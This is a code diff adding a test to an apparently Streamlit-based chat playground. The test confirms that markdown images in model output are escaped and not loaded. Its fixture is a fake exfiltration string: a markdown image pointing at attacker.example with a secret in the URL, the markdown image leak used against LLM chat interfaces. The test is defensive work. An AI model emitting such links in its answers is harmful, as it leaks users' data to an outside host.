@@ -253,6 +253,21 @@ def test_playground_streams_an_answer_with_its_metadata_and_log_row(env):
     assert at.session_state["_playground_state"].session_id != old and not at.chat_message
 
 
+def test_playground_never_loads_images_from_model_output(env, monkeypatch):
+    import app.simulator.server as sim_server
+    from app.simulator.answers import Answer
+
+    evil = "Sure. ![pixel](https://attacker.example/p.png?q=secret) [docs](https://example.com)"
+    monkeypatch.setattr(sim_server, "compose_answer", lambda *args, **kwargs: Answer(evil, "stop"))
+    at = open_app("pages/playground.py")
+    at.chat_input[0].set_value("hi").run()
+    assert not at.exception
+    shown = at.chat_message[1].markdown[0].value
+    assert "![" not in shown and "!\\[pixel]" in shown and "[docs](https://example.com)" in shown
+    at.run()  # the stored turn is redrawn from session state: still escaped
+    assert "![" not in at.chat_message[1].markdown[0].value
+
+
 def test_playground_settings_reach_the_router(env):
     at = open_app("pages/playground.py")
     at.selectbox[0].set_value("gpt-4.1")
